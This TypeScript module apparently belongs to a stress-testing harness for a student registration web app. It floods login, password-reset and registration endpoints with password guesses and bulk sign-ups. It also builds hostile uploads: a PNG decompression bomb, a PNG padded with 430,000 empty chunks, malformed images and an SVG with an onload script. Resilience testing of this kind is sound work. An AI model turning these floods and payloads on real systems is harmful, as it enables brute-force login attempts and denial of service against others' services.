import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { RandomNumber } from '#core/random.ts'
import { createRegistrationFields, encodeForm } from '../browser.ts'
import { type Attack, encodeJsonRequest, encodeRequest, flood } from './attack.ts'

/** Guesses passwords of the class's accounts, and some of the admin's. */
export const wrongLogins: Attack = {
  summary: '150 guesses a second at the accounts of the class',
  async prepare(target) {
    const { emails, random } = target
    const next = () => {
      const email = emails[Math.floor(random() * emails.length)] ?? 'admin@example.com'
      const password = `guess ${random().toString(36).slice(2)}`
      const isAdmin = random() < 0.1
      return isAdmin
        ? encodeJsonRequest('/api/auth/admin', { email: 'admin@example.com', password })
        : encodeJsonRequest('/api/auth/studentLogin', { email, password })
    }
    return (tally, signal) =>
      flood(target, { connections: 30, perSecond: 150, next }, { tally, signal })
  },
}

/** Half of the addresses belong to the class, the others do not exist. */
export const forgotPassword: Attack = {
  summary: '100 forgotten passwords a second, half of them the class’s',
  async prepare(target) {
    const { emails, random } = target
    const next = () => {
      const known = emails[Math.floor(random() * emails.length)]
      const email =
        random() < 0.5 && known ? known : `${random().toString(36).slice(2)}@example.com`
      return encodeJsonRequest('/api/auth/forgotPassword', { email })
    }
    return (tally, signal) =>
      flood(target, { connections: 20, perSecond: 100, next }, { tally, signal })
  },
}

/** Each registration is complete and valid, with an address of its own and full text fields. */
export const registrationFlood: Attack = {
  summary: '150 valid registrations a second',
  async prepare(target) {
    const long = 'Flat 12, Sai Residency, Kothrud, Pune 411038. '.repeat(10)
    const fields = { ...createRegistrationFields(emailPlaceholder), laddress: long, paddress: long }
    const { type, body } = await encodeForm(fields)
    const call = encodeRequest({ path: '/api/students/register', type, body })
    const next = () => withUniqueEmail(call, target.random)
    return (tally, signal) =>
      flood(target, { connections: 30, perSecond: 150, next }, { tally, signal })
  },
}

/** Complete registrations whose pictures are costly to decode. */
export const hostilePictures: Attack = {
  summary: 'registrations with bombs, 430,000 empty chunks, slivers and cut pictures',
  async prepare(target) {
    const calls: Buffer[] = []
    for (const aadharFront of Object.values(await createHostilePictures())) {
      const { type, body } = await encodeForm(createRegistrationFields(emailPlaceholder), {
        aadharFront,
      })
      calls.push(encodeRequest({ path: '/api/students/register', type, body }))
    }
    let sent = 0
    const next = () => withUniqueEmail(calls[sent++ % calls.length] as Buffer, target.random)
    return (tally, signal) =>
      flood(target, { connections: 6, perSecond: 40, next }, { tally, signal })
  },
}

/** Reserves room in a prepared call until it is sent. */
const emailPlaceholder = `${'0'.repeat(12)}@example.com`

/** A copy of the call with an address that nobody has used. */
function withUniqueEmail(call: Buffer, random: RandomNumber): Buffer {
  const copy = Buffer.from(call)
  const digits = String(Math.floor(random() * 1e12)).padStart(12, '0')
  copy.write(digits, call.indexOf(emailPlaceholder))
  return copy
}

const signature = Buffer.from('89504e470d0a1a0a', 'hex')

/** Pictures that a server may refuse or keep, but that must not block it; each below 5 MB. */
async function createHostilePictures(): Promise<Readonly<Record<string, Buffer>>> {
  const noise = await sharp({
    create: {
      width: 1200,
      height: 900,
      channels: 3,
      background: 'teal',
      noise: { type: 'gaussian', mean: 128, sigma: 60 },
    },
  })
    .jpeg({ quality: 90 })
    .toBuffer()
  return {
    'empty chunks': createPngWithEmptyChunks(430_000),
    bomb: createFlatPng(30_000, 30_000),
    'just under the limit of pixels': createFlatPng(5_000, 5_000),
    'a sliver': createFlatPng(12, 12_000),
    'a long line': createFlatPng(100_000, 1),
    'cut in the middle': noise.subarray(0, noise.length >> 1),
    'a page that says it is a picture': Buffer.from('<svg onload="alert(1)"/>'),
  }
}

/** Black, one bit per pixel: tiny as a file and huge in memory. */
function createFlatPng(width: number, height: number): Buffer {
  const pixels = Buffer.alloc((Math.ceil(width / 8) + 1) * height)
  return Buffer.concat([
    signature,
    encodeHeader(width, height),
    encodeChunk('IDAT', deflateSync(pixels)),
    encodeChunk('IEND', Buffer.alloc(0)),
  ])
}

/** A valid picture of one pixel after `count` empty chunks. */
function createPngWithEmptyChunks(count: number): Buffer {
  const empty = encodeChunk('teSt', Buffer.alloc(0))
  return Buffer.concat([
    signature,
    encodeHeader(1, 1),
    Buffer.alloc(empty.length * count, empty),
    encodeChunk('IDAT', deflateSync(Buffer.alloc(2))),
    encodeChunk('IEND', Buffer.alloc(0)),
  ])
}

function encodeHeader(width: number, height: number): Buffer {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(width, 0)
  data.writeUInt32BE(height, 4)
  data[8] = 1
  return encodeChunk('IHDR', data)
}

function encodeChunk(type: string, data: Buffer): Buffer {
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const whole = Buffer.alloc(data.length + 12)
  whole.writeUInt32BE(data.length, 0)
  typeAndData.copy(whole, 4)
  whole.writeUInt32BE(crc32(typeAndData), data.length + 8)
  return whole
}
